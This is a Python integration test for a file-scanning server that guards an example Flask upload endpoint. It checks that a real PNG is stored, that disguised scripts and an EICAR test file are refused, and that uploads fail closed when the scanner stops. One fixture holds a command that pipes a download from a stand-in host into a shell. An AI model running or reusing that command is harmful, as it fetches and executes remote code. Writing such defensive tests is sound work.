#!/usr/bin/env python3
"""examples/upload-gate against a real crible serve: the server-side check.

usage: test_upload_gate.py CRIBLE

crible serve answers HTTP; the example Flask app (Debian's python3-flask)
runs as its own process with the accept list image/png,application/pdf,
and curl uploads to it as any client could, bypassing whatever a
browser would check.  A real PNG is kept byte for byte under its hash;
a Python script named evil.png (Streamlit's st.file_uploader case) and
the same script named .py are refused with type.disallowed; EICAR named
report.pdf with sig.eicar; a request with one clean and one hostile
file keeps nothing; with crible stopped, a clean file is refused with
503 and not kept.  Ends with 'N passed, N failed'.
"""
import json, os, shutil, signal, struct, subprocess, sys, tempfile, zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import check, counts, finish, free_port, wait_port

crible = sys.argv[1]
root = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
work = tempfile.mkdtemp(prefix="crible-gate-")
store = os.path.join(work, "uploads")
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def png(w=4, h=4):
    """A real PNG: signature, IHDR, one IDAT of grey rows, IEND."""
    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
    rows = b"".join(b"\0" + bytes([0x80] * w) for _ in range(h))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 0, 0, 0, 0)) + \
        chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


files = {"photo.png": png(), "evil.png": b"import os\nos.system('curl http://203.0.113.9/x | sh')\n",
         "report.pdf": EICAR}
files["evil.py"] = files["evil.png"]
for n, b in files.items():
    open(os.path.join(work, n), "wb").write(b)

hport, gport = free_port(), free_port()
cr = subprocess.Popen([crible, "serve", "--http", "127.0.0.1:%d" % hport], stderr=open(os.path.join(work, "crible.log"), "w"))
check("crible serve listens", wait_port(hport, 20, cr))
env = dict(os.environ, CRIBLE_URL="http://127.0.0.1:%d" % hport, GATE_ACCEPT="image/png,application/pdf", GATE_DIR=store)
app = subprocess.Popen([sys.executable, os.path.join(root, "examples", "upload-gate", "app.py"), "--port", str(gport)],
                       env=env, stdout=subprocess.DEVNULL, stderr=open(os.path.join(work, "app.log"), "w"))
check("the Flask app listens", wait_port(gport, 30, app), open(os.path.join(work, "app.log")).read()[-400:])


def upload(*parts):
    """curl -F for each (field file name, local file, content type); (status, JSON answer)."""
    args = ["curl", "-s", "-w", "\n%{http_code}"]
    for name, local, ctype in parts:
        args += ["-F", "file=@%s;filename=%s;type=%s" % (os.path.join(work, local), name, ctype)]
    r = subprocess.run(args + ["http://127.0.0.1:%d/upload" % gport], capture_output=True, timeout=60)
    body, _, code = r.stdout.rpartition(b"\n")
    try:
        return int(code or 0), json.loads(body)
    except ValueError:
        return int(code or 0), body


def stored():
    return sorted(os.listdir(store)) if os.path.isdir(store) else []


code, ans = upload(("photo.png", "photo.png", "image/png"))
kept = ans.get("kept", []) if isinstance(ans, dict) else []
check("a real PNG is kept", code == 200 and len(kept) == 1 and kept[0]["type"] == "image/png", (code, ans))
check("kept byte for byte under its hash", len(stored()) == 1 and
      open(os.path.join(store, stored()[0]), "rb").read() == files["photo.png"] and stored()[0].endswith(".png"), stored())

for name, ctype, fid in (("evil.png", "image/png", "type.disallowed"), ("evil.py", "text/x-python", "type.disallowed"),
                         ("report.pdf", "application/pdf", "sig.eicar")):
    code, ans = upload((name, name, ctype))
    ref = ans.get("refused", []) if isinstance(ans, dict) else []
    check("%s refused with %s" % (name, fid), code == 422 and len(ref) == 1 and ref[0]["verdict"] == "block" and
          fid in ref[0]["findings"], (code, ans))
check("nothing hostile kept", len(stored()) == 1, stored())

code, ans = upload(("holiday.png", "photo.png", "image/png"), ("cv.pdf", "report.pdf", "application/pdf"))
check("one hostile file in the request: nothing of it kept", code == 422 and len(stored()) == 1 and
      [r["file"] for r in ans.get("refused", [])] == ["cv.pdf"], (code, ans, stored()))

cr.send_signal(signal.SIGTERM)
cr.wait(timeout=30)
open(os.path.join(work, "other.png"), "wb").write(png(8, 8))
code, ans = upload(("other.png", "other.png", "image/png"))
check("crible down: 503, and the file is not kept", code == 503 and len(stored()) == 1, (code, ans, stored()))

app.send_signal(signal.SIGTERM)
app.wait(timeout=30)
if not counts["failed"]:
    shutil.rmtree(work, ignore_errors=True)
finish()
